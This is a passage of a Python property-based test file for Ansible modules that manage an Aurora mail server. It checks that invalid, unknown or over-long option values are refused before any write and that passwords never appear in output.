    assert_refused(aurora, figures, 'aurora_tenant', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_mail_domain'])
@given(task=single_tasks(MAIL_DOMAIN_TASKS, mail_domain_cases()), check_mode=st.booleans())
def test_aurora_mail_domain_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_mail_domain', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_mail_account'])
@given(task=single_tasks(MAIL_ACCOUNT_TASKS, mail_account_cases()), check_mode=st.booleans())
def test_aurora_mail_account_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_mail_account', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_info'])
@given(task=single_tasks(INFO_TASKS, info_cases()), check_mode=st.booleans())
def test_aurora_info_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_info', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_settings'])
@given(task=single_tasks(SETTINGS_TASKS, settings_cases()), check_mode=st.booleans())
def test_aurora_settings_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_settings', task[0], task[1], check_mode)


# Values that only Aurora's declarations refuse: read first (over the web API, the super-administrator's GetSettings),
# so these make reads, and must make no write. {module: [(setting, bad value)]}
DECLARED_OTHERWISE = {
    'Core': [('SiteName', value) for value in (42, True, ['Acme'], None)]
    + [('AutodetectLanguage', value) for value in ('false', 'true', 'no', 0, 1, None)]
    + [('TimeFormat', value) for value in ('F13', 'f12', '1', 2, -1, True, None)]
    + [('SiteNam', 'Acme'), ('Nonsense', 1), ('AllowGroups', True)],  # unknown, unknown, php only
    'system': [('EnableLogging', value) for value in ('false', 1, 'on')]
    + [('LoggingLevel', value) for value in ('Debug', 'full', 99, True)]
    + [('EnableMultiTenantt', True), ('PasswordMinLength', 12)],  # unknown; php only
    'Mail': [('AllowAddAccounts', value) for value in ('no', 0, 'False')] + [('DoImapLoginOnAccountCreate', False)],
}
SETTINGS_WRITES = ('UpdateSettings', 'UpdateLoggingSettings', 'UpdateConfig', '@WriteSettings')


@examples(EXAMPLES['aurora_settings_declared'])
@given(module=st.sampled_from(sorted(DECLARED_OTHERWISE)), data=st.data(), check_mode=st.booleans())
def test_aurora_settings_refuses_values_aurora_declares_otherwise_before_any_write(aurora, figures, module, data,
                                                                                   check_mode):
    """A wrong type, an unknown setting, a value only the PHP API can write: refused once Aurora's declarations are
    read, naming the setting, with no write (the reads stay: the types are Aurora's)."""
    emulator, before = aurora
    name, value = data.draw(st.sampled_from(DECLARED_OTHERWISE[module]))
    good = dict(SETTINGS_TASKS[0]['settings']) if module == 'Core' else {}
    files = emulator.settings_files()
    emulator.calls_clear()
    figures.add('examples tried')
    args = dict(api_url=emulator.url, api_username=emulator.admin_login, api_password=emulator.admin_password,
                module=module, settings=dict(good, **{name: value}))
    result = run_module('aurora_settings', args, check_mode=check_mode)
    assert result.failed, (module, name, value, result)
    assert 'exception' not in result and 'Traceback' not in result.printed, result.printed
    assert [call for call in emulator.calls() if call['Method'] in SETTINGS_WRITES] == []
    assert emulator.settings_files() == files and emulator.state() == before
    assert names_option(result['msg'], name) and 'nothing was changed' in result['msg'], result['msg']
    assert emulator.admin_password not in result.printed
    figures.add('refused naming the option')
    figures.add('settings refused after reads, before any write')


@examples(EXAMPLES['aurora_group'])
@given(task=single_tasks(GROUP_TASKS, group_cases()), check_mode=st.booleans())
def test_aurora_group_refuses_bad_options(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_group', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_mail_servers'])
@given(task=mail_servers_tasks(), check_mode=st.booleans())
def test_aurora_mail_servers_refuses_bad_options_and_items(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_mail_servers', task[0], task[1], check_mode)


@examples(EXAMPLES['aurora_user_accounts'])
@given(task=user_accounts_tasks(), check_mode=st.booleans())
def test_aurora_user_accounts_refuses_bad_options_and_items(aurora, figures, task, check_mode):
    assert_refused(aurora, figures, 'aurora_user_accounts', task[0], task[1], check_mode)


def _text_options(spec):
    return sorted(name for name, option in spec.items() if option.get('type', 'str') == 'str' and not option.get('choices'))


LONG_TEXT_TARGETS = [(module, bases, option, list_option) for module, bases, spec, list_option in (
    ('aurora_mail_server', SERVER_TASKS, SERVER_OPTIONS, None),
    ('aurora_user_account', ACCOUNT_TASKS, ACCOUNT_OPTIONS, None),
    ('aurora_tenant', TENANT_TASKS, TENANT_OPTIONS, None),
    ('aurora_mail_domain', MAIL_DOMAIN_TASKS, MAIL_DOMAIN_OPTIONS, None),
    ('aurora_group', GROUP_TASKS, GROUP_OPTIONS, None),
    ('aurora_mail_account', MAIL_ACCOUNT_TASKS, MAIL_ACCOUNT_OPTIONS, None),
    ('aurora_mail_servers', SERVER_TASKS, SERVER_OPTIONS, MailServer.option),
    ('aurora_user_accounts', ACCOUNT_TASKS, ACCOUNT_OPTIONS, UserAccount.option),
) for option in _text_options(spec)]


@examples(EXAMPLES['too_long'])
@given(target=st.sampled_from(LONG_TEXT_TARGETS), base_index=st.integers(0, 3),
       text=long_text(string.ascii_letters + string.digits + '.-_'))
def test_text_longer_than_aurora_stores_is_refused_up_front(aurora, figures, target, base_index, text):
    """A value Aurora would cut or refuse half-way (varchar(255)) fails the task first, whatever the option."""
    module, bases, option, list_option = target
    value = text + '@mydomain.com' if option == 'email' else text
    task = dict(bases[base_index % len(bases)], **{option: value})
    if list_option:
        options, names = {list_option: [task]}, (list_option, option)
    else:
        options, names = task, (option,)
    result = assert_refused(aurora, figures, module, options, names)
    assert '%s must be at most %d characters' % (option, MAX_TEXT_LENGTH) in result['msg'], result['msg']


def test_at_least_1000_bad_inputs_were_tried_and_each_refused(figures):
    """Runs last: the count is measured example by example, not taken from the settings."""
    assert figures.get('examples tried', 0) >= MIN_EXAMPLES, figures
    refused_by_core = figures.get('refused by ansible-core (a NUL character)', 0)
    assert bool(refused_by_core) == CORE_REFUSES_NUL_FIRST, figures
    assert figures.get('refused naming the option') + refused_by_core == figures.get('examples tried'), figures


@pytest.mark.parametrize('module, option, item', [
    ('aurora_mail_servers', 'servers', dict(VALID_SERVER_ITEMS[0], smtp_auth_type='specified_credentials',
                                            smtp_login='relay', smtp_password='Item-Secret-7')),
    ('aurora_user_accounts', 'accounts', dict(VALID_ACCOUNT_ITEMS[0], password='Item-Secret-7')),
])
def test_an_item_that_is_not_a_dict_shows_no_secret(aurora, figures, module, option, item):
    """ansible-core's own search for no_log values gives up on such an item; the secrets stay hidden all the same."""
    result = assert_refused(aurora, figures, module, {option: [item, 2.5]}, (option,), check_mode=False)
    assert 'Item-Secret-7' not in result.printed and aurora[0].admin_password not in result.printed
